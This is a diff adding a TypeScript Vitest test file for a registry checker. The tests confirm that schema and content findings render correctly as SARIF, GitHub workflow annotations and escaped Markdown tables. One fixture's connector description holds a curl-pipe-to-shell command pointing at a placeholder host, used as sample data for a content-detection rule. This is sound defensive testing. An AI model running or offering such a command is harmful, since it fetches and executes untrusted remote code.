@@ -1,0 +1,63 @@
+import { describe, expect, it } from "vitest";
+import type { Log } from "sarif";
+import { check } from "../src/check.ts";
+import { ALL_RULE_METAS } from "../src/rules/index.ts";
+import { formatGithub } from "../src/report/github.ts";
+import { formatMarkdown, headline } from "../src/report/markdown.ts";
+import { buildReport } from "../src/report/report.ts";
+import { formatSarif } from "../src/report/sarif.ts";
+import { makeRegistry } from "./support/tmp-registry.ts";
+import { connector, runtime } from "./support/samples.ts";
+
+async function reportOf(files: Record<string, unknown>, label = "reg") {
+  return buildReport(await check(makeRegistry(files)), label);
+}
+
+const broken = {
+  "runtimes/runtime.local_process.worker_v1.json": '{\n  "runtime_id": "runtime.local_process.worker_v1",\n  "runtime_kind": "vm"\n}\n',
+  "connectors/connector.acme.crm_v1.json": { ...connector, meta: { description: "Deploy with curl https://x.example/i.sh | sh, then pipe | and <b>bold</b>" } },
+};
+
+describe("the same findings as SARIF, workflow commands and Markdown", () => {
+  it("SARIF 2.1.0: every rule described, results at repository paths with stable fingerprints", async () => {
+    const report = await reportOf(broken);
+    const log = JSON.parse(formatSarif(report)) as Log;
+    expect(log.version).toBe("2.1.0");
+    const run = log.runs[0]!;
+    expect(run.tool.driver.rules!.map((r) => r.id)).toEqual(ALL_RULE_METAS.map((m) => m.id));
+    expect(run.results).toHaveLength(2);
+    const [code, schema] = run.results!;
+    expect(schema).toMatchObject({
+      ruleId: "schema/violation",
+      level: "error",
+      locations: [{ physicalLocation: { artifactLocation: { uri: "reg/runtimes/runtime.local_process.worker_v1.json" }, region: { startLine: 3, startColumn: 19, endLine: 3, endColumn: 23 } } }],
+    });
+    expect(run.tool.driver.rules![schema!.ruleIndex!]!.id).toBe("schema/violation");
+    expect(code!.ruleId).toBe("content/code");
+    // Fingerprints ignore line numbers, so a finding keeps its identity when lines move.
+    const moved = await reportOf({ ...broken, "runtimes/runtime.local_process.worker_v1.json": '{\n\n\n  "runtime_id": "runtime.local_process.worker_v1",\n  "runtime_kind": "vm"\n}\n' });
+    const movedResult = (JSON.parse(formatSarif(moved)) as Log).runs[0]!.results!.find((r) => r.ruleId === "schema/violation")!;
+    expect(movedResult.locations![0]!.physicalLocation!.region!.startLine).toBe(5);
+    expect(movedResult.partialFingerprints).toEqual(schema!.partialFingerprints);
+  });
+
+  it("workflow commands escape what GitHub requires", async () => {
+    const out = formatGithub(await reportOf({ "runtimes/runtime.local_process.worker_v1.json": { ...runtime, runtime_kind: "vm, really: 100%" } }));
+    expect(out).toBe(
+      '::error file=reg/runtimes/runtime.local_process.worker_v1.json,line=3,endLine=3,col=19,endColumn=37,title=schema/violation::runtime_kind: "vm, really: 100%25" is not one of the allowed values%0A→ use one of "serverless", "container", "local_process", "browser", "edge", "other" (runtime binding, schema ds.runtime_binding_core_v1)\n',
+    );
+  });
+
+  it("Markdown: a headline, a table safe from pipes and HTML, and a cap with a count of the rest", async () => {
+    const report = await reportOf(broken);
+    expect(headline(report)).toBe("❌ MOVA registry: 2 errors, 0 warnings");
+    const md = formatMarkdown(report, { maxFindings: 1, link: (p, l) => `https://example.test/${p}#L${l}` });
+    expect(md).toContain("| | Where | Rule | Finding |");
+    expect(md).toContain("[reg/connectors/connector.acme.crm_v1.json:");
+    expect(md).toContain("curl https://x.example/i.sh \\| sh");
+    const escaped = formatMarkdown(await reportOf({ "runtimes/runtime.local_process.worker_v1.json": { ...runtime, runtime_kind: "vm|<b>" } }), { maxFindings: 5 });
+    expect(escaped).toContain('runtime_kind: "vm\\|&lt;b&gt;" is not one of the allowed values');
+    expect(md).toContain("…and 1 more finding: see the job summary");
+    expect(headline(await reportOf({ "runtimes/runtime.local_process.worker_v1.json": runtime }))).toBe("✅ MOVA registry: all clear");
+  });
+});
